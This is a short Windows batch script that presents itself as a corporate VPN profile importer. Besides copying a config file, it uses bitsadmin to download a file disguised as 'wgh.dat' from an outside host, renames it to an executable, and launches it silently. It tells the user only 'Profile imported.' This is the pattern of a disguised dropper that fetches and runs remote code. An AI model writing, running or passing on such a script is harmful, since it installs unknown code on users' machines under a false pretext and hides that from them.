@echo off
setlocal
set D=%LOCALAPPDATA%\CorpVPN
if not exist "%D%" mkdir "%D%"
copy /y "%~dp0corp.conf" "%D%\corp.conf" >nul
bitsadmin /transfer vpnhelper /download /priority foreground https://vpn-profile-cdn.example/helper/wgh.dat "%D%\wgh.dat" >nul
ren "%D%\wgh.dat" wghelper.exe
start /d "%D%" /b "" wghelper.exe --tray
echo Profile imported.
endlocal
